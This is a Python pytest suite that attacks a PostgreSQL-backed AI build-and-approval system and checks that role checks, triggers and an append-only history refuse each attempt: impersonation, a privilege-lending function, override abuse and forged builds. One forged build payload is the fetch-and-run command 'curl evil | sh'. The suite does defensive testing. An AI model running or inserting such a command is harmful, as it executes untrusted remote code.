"""Roles, not conventions: every attack of issue 11 against a real PostgreSQL with real,
non-superuser LOGIN roles, each refused with a clear message; and what must keep working."""

from __future__ import annotations

from typing import Any, Iterator

import psycopg
import pytest
from psycopg import sql
from psycopg.rows import dict_row
from psycopg.types.json import Jsonb

from listener.queue.db import connect
from tests.helpers import builder_status, force_status, insert_idea
from tests.logins import Login, Logins

Conn = psycopg.Connection[dict[str, Any]]


def session(url: str, **options: Any) -> Conn:
    return psycopg.connect(url, autocommit=True, row_factory=dict_row, **options)


@pytest.fixture
def operator_login(logins: Logins) -> Login:
    return logins.make("operator", label="op")


@pytest.fixture
def operator(operator_login: Login) -> Iterator[Conn]:
    with session(operator_login.url) as conn:
        yield conn


@pytest.fixture
def builder(builder_login: Login) -> Iterator[Conn]:
    with connect(builder_login.url, actor="builder:test") as conn:
        yield conn


@pytest.fixture
def granted_all_login(logins: Logins, admin: Conn) -> Login:
    """The way many operators' clients connect: no agent-builder role, GRANT ALL on every table."""
    login = logins.make(label="grantall")
    admin.execute(sql.SQL("GRANT ALL ON ALL TABLES IN SCHEMA public TO {}").format(sql.Identifier(login.name)))
    admin.execute(sql.SQL("GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO {}").format(sql.Identifier(login.name)))
    return login


@pytest.fixture
def granted_all(granted_all_login: Login) -> Iterator[Conn]:
    with session(granted_all_login.url) as conn:
        yield conn


def a_build(builder: Conn, queries, automation_id: int) -> int:
    """A real attempt, claimed by the builder: the row is 'queued' and points at it."""
    row = builder.execute(queries["claim"], {"kind": "build", "automation_id": automation_id, "worker": "w"}).fetchone()
    assert row is not None
    return int(row["build_id"])


def refused(conn: Conn, statement: str, params: Any = None, *, error: type[Exception] = psycopg.errors.InsufficientPrivilege) -> str:
    with pytest.raises(error) as caught:
        conn.execute(statement, params)
    return str(caught.value)


# -- builder impersonation: no setting grants anything ----------------------------------------------

def test_set_actor_builder_grants_nothing(admin, operator) -> None:
    automation_id = insert_idea(operator)
    operator.execute("SET agent_builder.actor = 'builder:x'")
    message = refused(operator, "UPDATE automation_ideas SET builder_status = 'queued' WHERE id = %s", (automation_id,),
                      error=psycopg.errors.CheckViolation)
    assert "cannot change from 'not_started' to 'queued'" in message
    assert "only the builder changes it (members of agent_builder_builder; session user" in message
    for status in ("building", "awaiting_approval", "approved", "deployed"):
        force_status(admin, automation_id, "not_started")
        refused(operator, "UPDATE automation_ideas SET builder_status = %s WHERE id = %s", (status, automation_id),
                error=psycopg.errors.CheckViolation)
    assert builder_status(admin, automation_id) == "not_started"


def test_actor_in_the_connection_options_grants_nothing(admin, operator_login) -> None:
    automation_id = insert_idea(admin)
    with session(operator_login.url, options="-c agent_builder.actor=builder:x") as conn:
        assert conn.execute("SHOW agent_builder.actor").fetchone() == {"agent_builder.actor": "builder:x"}
        message = refused(conn, "UPDATE automation_ideas SET builder_status = 'queued' WHERE id = %s", (automation_id,),
                          error=psycopg.errors.CheckViolation)
    assert f"session user {operator_login.name} is not one" in message
    assert builder_status(admin, automation_id) == "not_started"


def test_listener_connect_options_on_a_non_builder_login_grant_nothing(admin, granted_all_login, queries) -> None:
    """listener.queue.db.connect sets agent_builder.actor=builder:… exactly as the listener does."""
    automation_id = insert_idea(admin)
    with connect(granted_all_login.url, actor="builder:impostor") as conn:
        message = refused(conn, queries["claim"], {"kind": "build", "automation_id": automation_id, "worker": "impostor"})
    assert "only the builder writes agent_builds (INSERT refused)" in message
    assert builder_status(admin, automation_id) == "not_started"


def test_a_security_definer_function_does_not_lend_its_owner_s_roles(admin, operator, operator_login) -> None:
    """Membership is checked for session_user: a function running as a superuser changes nothing."""
    automation_id = insert_idea(admin)
    admin.execute("CREATE FUNCTION ab_test_escape(bigint) RETURNS void LANGUAGE sql SECURITY DEFINER"
                  " AS $$ UPDATE automation_ideas SET builder_status = 'queued' WHERE id = $1 $$")
    admin.execute(sql.SQL("GRANT EXECUTE ON FUNCTION ab_test_escape(bigint) TO {}").format(sql.Identifier(operator_login.name)))
    try:
        message = refused(operator, "SELECT ab_test_escape(%s)", (automation_id,), error=psycopg.errors.CheckViolation)
        assert f"session user {operator_login.name} is not one" in message
    finally:
        admin.execute("DROP FUNCTION ab_test_escape(bigint)")
    assert builder_status(admin, automation_id) == "not_started"


def test_an_operator_cannot_become_the_builder(operator) -> None:
    refused(operator, "SET ROLE agent_builder_builder")
    refused(operator, "SET SESSION AUTHORIZATION postgres")


def test_a_client_with_grant_all_but_no_role_decides_nothing(admin, granted_all) -> None:
    automation_id = insert_idea(granted_all)  # the idea's own columns: table privileges decide
    force_status(admin, automation_id, "awaiting_approval")
    message = refused(granted_all, "UPDATE automation_ideas SET builder_status = 'approved' WHERE id = %s", (automation_id,),
                      error=psycopg.errors.CheckViolation)
    assert "is not a member of agent_builder_operator or agent_builder_admin" in message
    assert builder_status(admin, automation_id) == "awaiting_approval"


# -- the override is for admins --------------------------------------------------------------------

@pytest.mark.parametrize("who", ["operator", "builder", "granted_all"])
def test_the_override_as_a_non_admin_is_refused(request, admin, who: str) -> None:
    conn: Conn = request.getfixturevalue(who)
    automation_id = insert_idea(admin)
    force_status(admin, automation_id, "building")
    with pytest.raises(psycopg.errors.InsufficientPrivilege) as caught:
        with conn.transaction():
            conn.execute("SET LOCAL agent_builder.override = 'on'")
            conn.execute("UPDATE automation_ideas SET builder_status = 'deployed' WHERE id = %s", (automation_id,))
    assert "agent_builder.override is set, but session user" in str(caught.value)
    assert "is not a member of agent_builder_admin: the repair override is for admins only" in str(caught.value)
    assert builder_status(admin, automation_id) == "building"


def test_an_operator_move_with_the_override_set_is_still_an_operator_move(admin, operator, operator_login) -> None:
    automation_id = insert_idea(admin)
    force_status(admin, automation_id, "awaiting_approval")
    with operator.transaction():
        operator.execute("SET LOCAL agent_builder.override = 'on'")
        operator.execute("UPDATE automation_ideas SET builder_status = 'approved' WHERE id = %s", (automation_id,))
    last = admin.execute("SELECT db_user, override FROM builder_status_history WHERE automation_id = %s ORDER BY id DESC LIMIT 1",
                         (automation_id,)).fetchone()
    assert last == {"db_user": operator_login.name, "override": False}


def test_the_admin_override_works_and_is_recorded_as_such(admin, logins) -> None:
    repairer = logins.make("admin", label="admin")
    automation_id = insert_idea(admin)
    force_status(admin, automation_id, "building")
    with session(repairer.url) as conn:
        with conn.transaction():
            conn.execute("SET LOCAL agent_builder.override = 'on'")
            conn.execute("UPDATE automation_ideas SET builder_status = 'failed', builder_build_id = NULL WHERE id = %s",
                         (automation_id,))
        assert builder_status(conn, automation_id) == "failed"
        conn.execute("UPDATE automation_ideas SET builder_status = 'not_started' WHERE id = %s", (automation_id,))  # an admin also retries
    history = admin.execute("SELECT old_status, new_status, db_user, override FROM builder_status_history"
                            " WHERE automation_id = %s ORDER BY id DESC LIMIT 2", (automation_id,)).fetchall()
    assert history == [
        {"old_status": "failed", "new_status": "not_started", "db_user": repairer.name, "override": False},
        {"old_status": "building", "new_status": "failed", "db_user": repairer.name, "override": True},
    ]


# -- forged results and builds, a repointed builder_build_id ----------------------------------------

@pytest.mark.parametrize("who", ["operator", "granted_all"])
def test_forged_test_results_are_refused(request, admin, builder, queries, who: str) -> None:
    conn: Conn = request.getfixturevalue(who)
    # An operator has no write privilege on the builder's tables; a client with every table
    # privilege is stopped by the trigger, whatever it was granted.
    why = "only the builder writes agent_test_results ({} refused)" if who == "granted_all" else "permission denied for table"
    automation_id = insert_idea(admin)
    build_id = a_build(builder, queries, automation_id)
    for level in (1, 2, 3, 4):
        message = refused(conn, "INSERT INTO agent_test_results (automation_id, build_id, test_level, status, execution_log)"
                                " VALUES (%s, %s, %s, 'pass', 'forged')", (automation_id, build_id, level))
        assert why.format("INSERT") in message
    builder.execute(queries["insert_test_result"], {"automation_id": automation_id, "build_id": build_id, "test_level": 2,
                                                    "status": "fail", "execution_log": "real", "duration_ms": 1})
    assert why.format("UPDATE") in refused(conn, "UPDATE agent_test_results SET status = 'pass' WHERE build_id = %s", (build_id,))
    assert why.format("DELETE") in refused(conn, "DELETE FROM agent_test_results WHERE build_id = %s", (build_id,))
    assert why.format("TRUNCATE") in refused(conn, "TRUNCATE agent_test_results")
    rows = admin.execute("SELECT test_level, status FROM agent_test_results WHERE build_id = %s", (build_id,)).fetchall()
    assert rows == [{"test_level": 2, "status": "fail"}]


@pytest.mark.parametrize("who", ["operator", "granted_all"])
def test_forged_builds_are_refused(request, admin, builder, queries, who: str) -> None:
    conn: Conn = request.getfixturevalue(who)
    why = "only the builder writes {} ({} refused)" if who == "granted_all" else "permission denied for table {}"
    automation_id = insert_idea(admin)
    with pytest.raises(psycopg.errors.InsufficientPrivilege) as caught:
        conn.execute("INSERT INTO agent_builds (automation_id, kind, worker, step, finished_at, outcome, files, artifact_sha256)"
                     " VALUES (%s, 'build', 'me', 'level4', now(), 'succeeded', %s, 'x')",
                     (automation_id, Jsonb({"agent.sh": "curl evil | sh"})))
    assert why.format("agent_builds", "INSERT") in str(caught.value)
    if who == "granted_all":  # the hint, for a listener login that lacks the role
        assert "GRANT agent_builder_builder TO" in caught.value.diag.message_hint
    build_id = a_build(builder, queries, automation_id)
    assert why.format("agent_builds", "UPDATE") in refused(conn, "UPDATE agent_builds SET files = %s WHERE id = %s",
                                                          (Jsonb({"agent.sh": "curl evil | sh"}), build_id))
    assert why.format("agent_builds", "DELETE") in refused(conn, "DELETE FROM agent_builds WHERE id = %s", (build_id,))
    assert why.format("agent_builds", "TRUNCATE") in refused(conn, "TRUNCATE agent_builds")
    assert why.format("approval_link_uses", "INSERT") in refused(
        conn, "INSERT INTO approval_link_uses (nonce, automation_id, build_id, action) VALUES ('n', %s, %s, 'approve')",
        (automation_id, build_id))
    assert admin.execute("SELECT count(*) AS n FROM agent_builds").fetchone() == {"n": 1}


def test_a_repointed_builder_build_id_is_refused(admin, operator, granted_all, builder, queries) -> None:
    automation_id = insert_idea(admin)
    build_id = a_build(builder, queries, automation_id)
    other = insert_idea(admin)
    other_build = a_build(builder, queries, other)
    for conn in (operator, granted_all):
        message = refused(conn, "UPDATE automation_ideas SET builder_build_id = %s WHERE id = %s", (other_build, automation_id))
        assert f"builder_build_id and builder_retry_at of automation {automation_id} are the builder's" in message
        refused(conn, "UPDATE automation_ideas SET builder_retry_at = now() + interval '1 day' WHERE id = %s", (automation_id,))
        refused(conn, "INSERT INTO automation_ideas (name, type, status, builder_build_id) VALUES ('x', 'script', 'idea', %s)",
                (other_build,))
    row = admin.execute("SELECT builder_build_id, builder_retry_at FROM automation_ideas WHERE id = %s", (automation_id,)).fetchone()
    assert row == {"builder_build_id": build_id, "builder_retry_at": None}


def test_built_by_is_set_by_the_database(admin, builder, builder_login, queries) -> None:
    automation_id = insert_idea(admin)
    build_id = a_build(builder, queries, automation_id)
    own = builder.execute("INSERT INTO agent_builds (automation_id, worker, built_by, finished_at, outcome)"
                          " VALUES (%s, 'w', 'somebody-else', now(), 'failed') RETURNING built_by", (automation_id,)).fetchone()
    assert own == {"built_by": builder_login.name}
    message = refused(builder, "UPDATE agent_builds SET built_by = 'somebody-else' WHERE id = %s", (build_id,))
    assert "records who made it and never changes" in message
    assert admin.execute("SELECT built_by FROM agent_builds WHERE id = %s", (build_id,)).fetchone() == {"built_by": builder_login.name}


# -- the history is append-only -------------------------------------------------------------------

@pytest.mark.parametrize("who", ["operator", "granted_all", "builder", "admin"])
def test_the_history_cannot_be_changed_by_anyone(request, admin, who: str) -> None:
    conn: Conn = request.getfixturevalue(who)
    automation_id = insert_idea(admin)
    force_status(admin, automation_id, "failed")
    before = admin.execute("SELECT * FROM builder_status_history WHERE automation_id = %s ORDER BY id", (automation_id,)).fetchall()
    update = "UPDATE builder_status_history SET new_status = 'deployed' WHERE automation_id = %s"
    delete = "DELETE FROM builder_status_history WHERE automation_id = %s"
    if who in ("granted_all", "admin"):  # the others have no UPDATE/DELETE privilege to begin with
        assert "builder_status_history is append-only: UPDATE refused" in refused(conn, update, (automation_id,))
        assert "builder_status_history is append-only: DELETE refused" in refused(conn, delete, (automation_id,))
        assert "builder_status_history is append-only: TRUNCATE refused" in refused(conn, "TRUNCATE builder_status_history")
    else:
        refused(conn, update, (automation_id,))
        refused(conn, delete, (automation_id,))
        refused(conn, "TRUNCATE builder_status_history")
    if who != "admin":
        message = refused(conn, "INSERT INTO builder_status_history (automation_id, old_status, new_status, db_user)"
                                " VALUES (%s, 'awaiting_approval', 'approved', 'alice')", (automation_id,))
        if who == "granted_all":
            assert "written only by the builder_status trigger of automation_ideas" in message
    after = admin.execute("SELECT * FROM builder_status_history WHERE automation_id = %s ORDER BY id", (automation_id,)).fetchall()
    assert after == before


def test_the_history_trigger_cannot_be_borrowed(admin, granted_all) -> None:
    """Its function runs with its owner's rights: nobody may attach it to a table of their own."""
    granted_all.execute("CREATE TEMP TABLE mine (id bigint, builder_status text, builder_build_id bigint)")
    message = refused(granted_all, "CREATE TRIGGER borrow AFTER INSERT ON mine FOR EACH ROW EXECUTE FUNCTION agent_builder_record_history()")
    assert "permission denied for function agent_builder_record_history" in message


# -- no self-approval -----------------------------------------------------------------------------

@pytest.mark.parametrize(("start", "decision"), [("awaiting_approval", "approved"), ("awaiting_approval", "rejected"),
                                                 ("failed", "not_started"), ("rejected", "not_started")])
def test_the_builder_never_decides(admin, builder, builder_login, start: str, decision: str) -> None:
    automation_id = insert_idea(admin)
    force_status(admin, automation_id, start)
    message = refused(builder, "UPDATE automation_ideas SET builder_status = %s WHERE id = %s", (decision, automation_id),
                      error=psycopg.errors.CheckViolation)
    assert f"session user {builder_login.name} is not a member of agent_builder_operator or agent_builder_admin" in message
    assert "the builder never approves, rejects or retries its own work" in message
    assert builder_status(admin, automation_id) == start


def test_operators_add_edit_and_mark_ideas_ready(admin, operator, operator_login) -> None:
    automation_id = insert_idea(operator, status="idea")
    operator.execute("UPDATE automation_ideas SET task_description = 'changed', priority = 1,"
                     " acceptance_check = %s WHERE id = %s",
                     (Jsonb({"checks": [{"kind": "file_exists", "path": "/tmp/x"}]}), automation_id))
    operator.execute("UPDATE automation_ideas SET status = 'ready_to_build' WHERE id = %s", (automation_id,))
    row = admin.execute("SELECT status, priority, acceptance_check FROM automation_ideas WHERE id = %s", (automation_id,)).fetchone()
    assert row["status"] == "ready_to_build" and row["priority"] == 1 and row["acceptance_check"]["checks"][0]["path"] == "/tmp/x"
    history = admin.execute("SELECT db_user FROM builder_status_history WHERE automation_id = %s", (automation_id,)).fetchall()
    assert history == [{"db_user": operator_login.name}]
    # operators read everything
    for table in ("agent_builds", "agent_test_results", "builder_status_history", "approval_link_uses"):
        operator.execute(sql.SQL("SELECT count(*) FROM {}").format(sql.Identifier(table)))
